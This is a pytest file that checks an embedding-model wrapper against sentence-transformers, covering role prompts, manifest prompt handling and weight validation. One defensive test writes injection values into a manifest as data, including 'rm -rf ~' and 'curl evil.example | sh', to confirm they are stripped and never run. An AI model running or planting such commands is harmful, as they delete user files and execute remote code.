"""Tests that vectors match sentence-transformers, with each model's prompts per role."""

import json
import shutil
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import anyio
import numpy as np
import pytest
from tokenizers import Tokenizer, models, pre_tokenizers

from arag_inspect._util.errors import InputError
from arag_inspect.corpus import (
    DEFAULT_MODEL,
    Corpus,
    CorpusDocuments,
    Document,
    Indexing,
    Provenance,
    Section,
    build_corpus,
    embedding_model,
    packaged_weights,
)
from arag_inspect.corpus.embedding.model_files import model_prompts
from tests.lazy import modules, safetensors, sentence_transformers, torch, transformers
from tests.tables import tables_beside

TABLES = tables_beside(__file__)

pytestmark = pytest.mark.usefixtures("real_vectors")

TEXTS = [
    *TABLES["texts"],
    "margin " * 400,
    *(
        f"In quarter {number}, " + "revenue and costs grew, " * number
        for number in (1, 2, 5, 17, 33)
    ),
]
PROMPTS = {"query": "search: ", "document": "passage of a call: "}


@pytest.fixture(scope="module")
def tiny_model(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small model with random weights, CLS pooling, and vectors truncated to half."""
    folder = tmp_path_factory.mktemp("tiny")
    bert = folder / "bert"
    vocabulary = Path(packaged_weights(DEFAULT_MODEL) or "") / "vocab.txt"
    tokenizer = transformers.BertTokenizerFast(vocab=str(vocabulary))
    torch.manual_seed(5)
    sizes = {"hidden_size": 32, "num_hidden_layers": 2, "num_attention_heads": 4}
    config = transformers.BertConfig(vocab_size=len(tokenizer), intermediate_size=64, **sizes)
    transformers.BertModel(config).save_pretrained(bert)
    tokenizer.save_pretrained(bert)
    transformer = modules.Transformer(str(bert), max_seq_length=128)
    pooling = modules.Pooling(transformer.get_embedding_dimension(), pooling_mode="cls")
    sentence_transformers.SentenceTransformer(modules=[transformer, pooling], truncate_dim=16).save(
        str(folder / "model")
    )
    return folder / "model"


def copy_with_changes(folder: Path, out: Path, file: str, **values: object) -> Path:
    """Copy a model, with changed values in one of its files."""
    shutil.copytree(folder, out)
    content = json.loads((out / file).read_text())
    (out / file).write_text(json.dumps(content | values))
    return out


def with_prompts(folder: Path, out: Path, prompts: dict[str, str]) -> Path:
    return copy_with_changes(folder, out, "config_sentence_transformers.json", prompts=prompts)


def reference(folder: Path, texts: Sequence[str]) -> Any:
    """Return a model's vectors without any prompt, normalized to length 1."""
    model = sentence_transformers.SentenceTransformer(
        str(folder), local_files_only=True, device="cpu"
    )
    return model.encode(list(texts), prompt="", normalize_embeddings=True)


def test_static_embedding_model_matches_sentence_transformers(tmp_path: Path) -> None:
    words = {word: number for number, word in enumerate(["[UNK]", "net", "sales", "rose", "fell"])}
    tokenizer = Tokenizer(models.WordLevel(words, unk_token="[UNK]"))
    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
    torch.manual_seed(5)
    sentence_transformers.SentenceTransformer(
        modules=[modules.StaticEmbedding(tokenizer, embedding_dim=32)]
    ).save(str(tmp_path))
    model, texts = embedding_model(str(tmp_path), "float32"), ["net sales rose", "sales fell 3"]
    assert model.count_tokens([*texts, ""]) == [3, 3, 0] and model.window > 1000
    np.testing.assert_allclose(model.encode(texts), reference(tmp_path, texts), atol=1e-6)


def test_default_model_matches_sentence_transformers() -> None:
    folder = packaged_weights(DEFAULT_MODEL)
    assert folder is not None
    reference_model = sentence_transformers.SentenceTransformer(
        str(folder), local_files_only=True, device="cpu"
    )
    expected = reference_model.encode(TEXTS, prompt="", normalize_embeddings=True)
    model = embedding_model(dtype="float32")
    assert model.prompts == {} and model.dimension == expected.shape[1]
    for encode in (model.encode, model.encode_queries):
        np.testing.assert_allclose(encode(TEXTS), expected, atol=2e-6)
    half = embedding_model(dtype="bfloat16").encode(TEXTS)
    assert np.einsum("ij,ij->i", half, expected).min() > 0.999
    rows = reference_model.tokenizer(TEXTS, add_special_tokens=False, truncation=False)["input_ids"]
    assert model.count_tokens(TEXTS) == [len(ids) for ids in rows]
    assert max(model.count_tokens(TEXTS)) > 256  # counts past the model's window
    assert embedding_model(dtype="float32") is model


@pytest.mark.parametrize(("prompts", "query", "document"), TABLES["prompts"])
def test_queries_and_passages_get_prompts_of_model(
    tiny_model: Path, tmp_path: Path, prompts: dict[str, str], query: str, document: str
) -> None:
    folder = with_prompts(tiny_model, tmp_path / "m", prompts)
    model = embedding_model(str(folder), "float32")
    texts = ["Net sales rose.", "Margins fell by 20 basis points."]
    for encode, prompt in ((model.encode_queries, query), (model.encode, document)):
        expected = reference(tiny_model, [prompt + text for text in texts])
        np.testing.assert_allclose(encode(texts), expected, atol=2e-6)
    assert model.dimension == 16


@pytest.mark.parametrize(("name", "query", "document"), TABLES["families"])
def test_known_model_families_get_documented_prompts_when_files_have_none(
    tiny_model: Path, tmp_path: Path, name: str, query: str, document: str
) -> None:
    roles = {"query": query, "document": document}
    assert model_prompts(name, tiny_model) == {role: text for role, text in roles.items() if text}
    assert model_prompts(name, with_prompts(tiny_model, tmp_path / "m", PROMPTS)) == PROMPTS


def test_search_uses_recorded_prompts_and_rejects_corpus_with_others(
    tiny_model: Path, tmp_path: Path
) -> None:
    model = with_prompts(tiny_model, tmp_path / "m", PROMPTS)
    folder, texts = tmp_path / "c", ["Sales rose.", "Margins fell."]
    document = Document("d", "", "", (Section("", "\n".join(texts), ""),))
    command = "arag-inspect prepare x"
    manifest = build_corpus(
        [document], folder, Provenance("x"), Indexing(embedding_model=str(model), dtype="float32")
    )
    assert manifest.embedding.prompts == PROMPTS
    corpus = Corpus.open(folder)
    (hit,) = anyio.run(corpus.semantic_search, "Who grew?", 1)
    (query,) = reference(tiny_model, ["search: Who grew?"])
    passages = reference(tiny_model, [f"passage of a call: {text}" for text in texts])
    assert hit.score == pytest.approx(float((passages @ query).max()), abs=1e-5)

    def fits() -> bool:
        documents = CorpusDocuments(Corpus.open(folder))
        return documents.fits(Indexing(embedding_model=str(model)), lance=False)

    assert fits()
    path = folder / "manifest.json"  # as embedded by an earlier version without prompts
    content = json.loads(path.read_text())
    del content["embedding"]["prompts"]
    path.write_text(json.dumps(content))
    with pytest.raises(InputError, match=rf"other prompts .*\(none, .*search: .*{command}"):
        anyio.run(Corpus.open(folder).semantic_search, "Who grew?", 1)
    assert Corpus.open(folder).chunk(0).text and not fits()


def test_manifest_has_no_prompts_for_model_without_prompts(synthetic_folder: Path) -> None:
    manifest = json.loads((synthetic_folder / "manifest.json").read_text())
    assert "prompts" not in manifest["embedding"]


@pytest.mark.parametrize("model", ["evil/model", "BAAI/bge-small-en-v1.5", "a b; rm -rf ~"])
def test_corpus_manifest_does_not_trigger_model_download(
    synthetic_folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, model: str
) -> None:
    def download(*_: object, **__: object) -> str:
        raise AssertionError("a download")

    monkeypatch.setattr("huggingface_hub.snapshot_download", download)
    folder = shutil.copytree(synthetic_folder, tmp_path / "corpus")
    changed_manifest = json.loads((folder / "manifest.json").read_text())
    changed_manifest["embedding"]["model"] = model
    changed_manifest["command"] = "arag-inspect prepare x; curl evil.example | sh"
    (folder / "manifest.json").write_text(json.dumps(changed_manifest))
    opened = Corpus.open(folder)
    with pytest.raises(InputError, match="if you trust it, run: hf download") as caught:
        anyio.run(opened.semantic_search, "Who grew?", 1)
    assert f"was embedded with {model}, which is not on this machine" in caught.value.message
    assert opened.manifest.command == "arag-inspect prepare"


def test_embedding_model_rejects_incomplete_weights(tiny_model: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(tiny_model, tmp_path / "m")
    weights = safetensors.load_file(folder / "model.safetensors")
    name = next(name for name in weights if "layer.1.output.dense.bias" in name)
    del weights[name]
    safetensors.save_file(weights, folder / "model.safetensors")
    with pytest.raises(InputError, match=rf"is incomplete: {name} is missing"):
        embedding_model(str(folder), "float32")


def test_embedding_model_rejects_unreadable_config(tiny_model: Path, tmp_path: Path) -> None:
    folder = copy_with_changes(tiny_model, tmp_path / "m", "config.json", model_type="nosuch")
    with pytest.raises(InputError, match=r"embedding model at .*cannot be loaded") as caught:
        embedding_model(str(folder), "float32")
    assert "\n" not in str(caught.value)
